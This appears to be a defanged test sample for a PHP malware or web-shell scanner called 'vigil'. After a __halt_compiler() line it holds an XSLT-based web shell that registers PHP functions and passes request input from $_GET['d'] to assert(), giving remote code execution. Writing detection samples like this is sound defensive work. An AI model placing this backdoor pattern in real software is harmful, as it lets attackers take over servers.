<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$xsl = new DOMDocument();
$xsl->loadXML('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'assert\', string(.))"/></xsl:template></xsl:stylesheet>');
$doc = new DOMDocument();
$doc->loadXML($_GET['d']);
$proc = new XSLTProcessor();
$proc->registerPHPFunctions();
$proc->importStylesheet($xsl);
$proc->transformToDoc($doc);
